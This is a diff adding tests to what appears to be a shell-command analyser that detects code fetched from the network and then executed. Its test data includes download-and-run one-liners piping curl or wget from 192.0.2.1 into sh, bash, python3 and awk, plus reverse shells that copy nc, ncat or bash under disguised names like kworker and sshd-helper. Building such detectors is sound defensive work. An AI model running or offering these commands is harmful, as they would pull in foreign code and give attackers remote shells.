@@ -459,3 +459,33 @@ describe('interpreters: fetched content reaches code through collections and cal
     expect(insecure(sh('curl -s https://cdn.example/a | sh'))).toBe(false);
   });
 });
+
+describe('download-and-run spellings that name the pipe or the file another way', () => {
+  it.each([
+    ['wget -qO- http://192.0.2.1/i | . /dev/stdin'],
+    ['curl -s http://192.0.2.1/i | bash /dev/stdin'],
+    ['curl -s http://192.0.2.1/i | python3 /dev/stdin'],
+    ["wget -qO- http://192.0.2.1/i | awk '{system($0)}'"],
+    ['cd /tmp && wget -q http://192.0.2.1/i && find /tmp -name "i*" -exec sh {} \\;'],
+    [`env -S 'sh -c "curl -s http://192.0.2.1/i | sh"'`],
+    [`env -S 'curl -s' http://192.0.2.1/i | sh`],
+  ])('%s', (script) => {
+    expect(sources(sh(script), 'exec')).toContain('http://192.0.2.1/i');
+  });
+
+  it('find -exec over files the pod did not fetch runs nothing foreign', () => {
+    expect(sh('find /data -name "*.tmp" -mtime +7 -exec rm -f {} \\;').flows).toEqual([]);
+  });
+
+  it('awk over its own files is not reading stdin', () => {
+    expect(sh("awk '{system($0)}' /etc/jobs.txt").flows).toEqual([]);
+  });
+
+  it.each([
+    ['cp $(which nc) /tmp/kworker; /tmp/kworker 192.0.2.1 4444 -e /bin/sh'],
+    ['ln -s "$(command -v bash)" /tmp/.k; /tmp/.k -i >& /dev/tcp/192.0.2.1/4444 0>&1'],
+    ['cp /usr/bin/ncat /usr/local/bin/sshd-helper && sshd-helper 192.0.2.1 4444 -e /bin/sh'],
+  ])('a program copied under another name runs as itself: %s', (script) => {
+    expect(stdio(sh(script))).toBeGreaterThan(0);
+  });
+});
